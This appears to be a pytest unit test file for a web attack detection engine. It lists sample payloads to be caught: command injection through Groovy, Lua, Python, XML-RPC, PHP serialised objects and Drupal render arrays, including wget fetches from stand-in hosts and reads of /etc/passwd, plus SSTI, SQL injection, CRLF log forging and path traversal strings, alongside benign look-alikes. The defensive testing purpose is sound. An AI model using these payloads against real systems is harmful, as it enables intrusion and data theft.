"""Unit: shapes of the fresh22 first contact.

Commands started through a language's process API with no shell metacharacter (Groovy's ``.execute()`` on a literal,
Lua's ``io.popen``/``os.execute`` and Python's ``os``/``subprocess`` calls on a literal command or on request input, an
XML-RPC method naming ``os.system``, a PHP serialised object holding a process callback and a command, a Drupal
render-array callback), a command redirected into a system folder as the whole value, JXPath's
``exec(Runtime.getRuntime(), …)``, an EL opener with escaped letters, a DedeCMS ``runphp`` tag, an INSERT break-out
that closes the ``VALUES`` list, a ``CASE`` conditional error, a forged log line after a one-token first line and the
nginx alias off-by-slash. Values are our own; none comes from a corpus."""

from __future__ import annotations

import time
from collections.abc import Callable

import pytest

from bastion.detection import Context, Engine
from bastion.detection.shell import is_cmdi
from bastion.detection.signatures import crlf, ssti, traversal
from bastion.detection.sqli import is_sqli

BODY = Context("body", "note")
QUERY = Context("query", "comment")

ATTACKS: dict[str, tuple[str, str]] = {
    "groovy_literal_execute": ("'cat /etc/hostname'.execute().text", "cmdi"),
    "groovy_literal_in_script": ('class A {\n  def run() {\n    "wget http://e.example/x".execute()\n  }\n}', "cmdi"),
    "groovy_list_execute": ('["bash", "-c", "uname -a"].execute()', "cmdi"),
    "groovy_bound_name": ("def c = 'whoami'\nprintln c.execute().text", "cmdi"),
    "lua_os_execute_literal": ('os.execute("uname -a")', "cmdi"),
    "lua_popen_request_input": ("local q = ngx.req.get_uri_args()\nlocal h = io.popen(q.c)\nngx.say(h:read('*a'))",
                                "cmdi"),
    "lua_popen_direct_input": ("local h = io.popen(ngx.var.arg_run)", "cmdi"),
    "python_subprocess_list": ("subprocess.check_output(['cat', '/etc/passwd'])", "cmdi"),
    "python_popen_request_input": ("import os\nout = os.popen(request.args.get('q')).read()", "cmdi"),
    "xmlrpc_os_system": ("<methodCall><methodName>app.helpers.os.system</methodName><params><param>"
                         "<string>uname -a</string></param></params></methodCall>", "cmdi"),
    "xmlrpc_subprocess": ("<methodCall><methodName>a.b.subprocess.check_output</methodName></methodCall>", "cmdi"),
    "php_serialized_callback": ('O:4:"Demo":2:{s:2:"cb";s:8:"passthru";s:3:"arg";s:9:"uname -a;";}', "cmdi"),
    "php_serialized_system": ('O:6:"Runner":2:{s:4:"call";s:6:"system";s:4:"with";s:15:"cat /etc/passwd";}',
                              "cmdi"),
    "drupal_post_render": ("name[#post_render][0]=passthru&name[#markup]=uname -a", "cmdi"),
    "drupal_lazy_builder": ("form_id=x&x[#lazy_builder][0]=system&x[#lazy_builder][1][]=id", "cmdi"),
    "drupal_render_key": ("field[#pre_render][]", "cmdi"),
    "redirect_to_tmp": ("uname -a >/tmp/probe.txt", "cmdi"),
    "redirect_quoted_append": ("'whoami >> /var/tmp/o'", "cmdi"),
    "jxpath_exec": ("exec( java.lang.Runtime.getRuntime() , 'wget http://x.example')", "cmdi"),
    "jxpath_short": ("exec(Runtime.getRuntime(),\"id\")", "cmdi"),
    "escaped_el": ("$\\X{12*34*56}", "ssti"),
    "escaped_el_hash": ("#\\q\\r{''.getClass().forName('java.lang.Runtime')}", "ssti"),
    "runphp_tag": ("{cms:field name='x' runphp='yes'}echo 1234;{/cms:field}", "ssti"),
    "values_breakout": ("bob\", \"admin\", 1); -- ", "sqli"),
    "values_breakout_rows": ("x', 'y'), ('z', 'w')#", "sqli"),
    "values_breakout_null": ("note', null, now())/*", "sqli"),
    "case_zero_division": ("(CASE WHEN (ascii(x)>64) THEN 1/0 ELSE 1 END)", "sqli"),
    "case_else_error": ("SELECT CASE WHEN 1=2 THEN 'a' ELSE TO_NUMBER(7/0) END FROM dual", "sqli"),
    "log_forged_iso": ("mallory\n2025-03-04 05:06:07 INFO user root logged in", "crlf"),
    "log_forged_bracketed": ("eve\r\n[2025-03-04T05:06:07Z] password reset for admin", "crlf"),
    "log_forged_syslog": ("guest\nMar  4 05:06:07 host sshd[1]: Accepted password for root", "crlf"),
    "alias_off_by_slash": ("/static../settings.py", "traversal"),
    "alias_backslash": ("/img..\\web.config", "traversal"),
}

BENIGN: dict[str, str] = {
    "readme_mentions_os_system": "Avoid `os.system()`; call `subprocess.run()` with a list instead.",
    "readme_popen_variable": "```lua\nlocal f = io.popen(cmd)\nprint(f:read('*a'))\n```",
    "python_popen_own_variable": "proc = subprocess.Popen(args, stdout=PIPE)",
    "prose_subprocess": "The subprocess module runs programs; os.system is older.",
    "jdbc_execute": "stmt.execute();\nconn.commit();",
    "task_execute": "new DownloadTask().execute()",
    "bound_number_execute": "def n = 5; job.execute()",
    "xmlrpc_ordinary": "<methodCall><methodName>blogger.getUsersBlogs</methodName></methodCall>",
    "serialized_plain": 'a:2:{s:4:"type";s:6:"system";s:4:"name";s:5:"Alice";}',
    "serialized_object_words": 'O:8:"stdClass":2:{s:4:"kind";s:6:"system";s:4:"text";s:11:"hello world";}',
    "php_render_array_code": "$form['#post_render'][] = 'my_module_post_render';",
    "markdown_heading_link": "[#post-render hooks](https://example.com/docs)",
    "comparison_prose": "price > /month",
    "redirect_doc_relative": "ls > files.txt",
    "redirect_prose": "the output of id goes > /tmp/x when you run it",
    "exec_getruntime_other": "Runtime.getRuntime().availableProcessors()",
    "regex_escape_dollar": "match \\d{3} with $\\d or $HOME",
    "latex_escape": "cost $\\frac{1}{2}$ of the total",
    "runphp_prose": "DedeCMS tags can take runphp='yes', which is why it is disabled",
    "quoted_list_prose": "Choose 'red', 'green' or 'blue' (any one) -- thanks",
    "sql_insert_doc": "INSERT INTO t (a, b) VALUES ('x', 'y');",
    "case_prose": "In case when the total is 0 then 1/0 is undefined.",
    "case_sql_without_error": "SELECT CASE WHEN a > 0 THEN 1 ELSE 0 END FROM t",
    "two_line_note": "Meeting\n2025-03-04 at 10:00 with the team",
    "log_paste_with_words": "The job failed:\n2025-03-04 05:06:07 ERROR disk full",
    "one_token_then_date": "Released\n2025-03-04",
    "ellipsis_path": "see a/b... /c",
    "dots_in_name": "/files.../x and /v1..2",
    "url_alias_like": "https://example.com/files../x",
}


@pytest.mark.parametrize(("value", "attack"), ATTACKS.values(), ids=ATTACKS.keys())
def test_fresh22_shape_is_caught(engine: Engine, value: str, attack: str) -> None:
    for ctx in (BODY, QUERY):
        found = engine.inspect(value, ctx)
        assert found is not None and found.rule.attack == attack, (value, ctx, found)


@pytest.mark.parametrize("value", BENIGN.values(), ids=BENIGN.keys())
def test_fresh22_look_alike_passes(engine: Engine, value: str) -> None:
    assert engine.inspect(value, BODY) is None, value


ADVERSARIAL: list[tuple[Callable[[str], object], str]] = [
    (is_cmdi, "'a'.execute()" * 10_000),
    (is_cmdi, "x.execute() " * 11_000),
    (is_cmdi, "x = 'a'\n" + "x.execute()" * 11_000),
    (is_cmdi, "req.query " + "io.popen(a) " * 11_000),
    (is_cmdi, "<methodName>" + "a." * 60_000),
    (is_cmdi, 'O:1:"a":1:{' + 's:3:"a b";' * 12_000),
    (is_cmdi, "[#post_render]" * 9_000),
    (is_cmdi, "id " + "a " * 60_000 + ">/tmp/x"),
    (lambda v: ssti(v, BODY), "$\\a" * 40_000 + "{"),
    (lambda v: ssti(v, BODY), "{a:b " + "x" * 130_000 + " runphp=yes}"),
    (is_sqli, "'" + ", 'a'" * 25_000 + ")--"),
    (is_sqli, "case when " * 13_000 + "then 1/0"),
    (lambda v: crlf(v, BODY), "a\n" * 60_000 + "2025-01-01 00:00:00"),
    (lambda v: traversal(v, BODY), "/aaaa" * 26_000 + "../"),
]


@pytest.mark.parametrize(("check", "value"), ADVERSARIAL)
def test_fresh22_adversarial_values_are_linear(check: Callable[[str], object], value: str) -> None:
    value = value[: 128 * 1024]
    start = time.process_time()
    check(value)
    assert time.process_time() - start < 1.0


def test_fresh22_xmlrpc_method_path_as_parsed_text(engine: Engine) -> None:
    """The ``<methodName>`` text alone, as the XML body parser hands it over: a dotted walk to ``os.system``."""
    found = engine.inspect("svc.handlers.tempfile.os.popen", BODY)
    assert found is not None and found.rule.attack == "cmdi"
    assert engine.inspect("os.system", BODY) is None
    assert engine.inspect("docs.python.org", BODY) is None
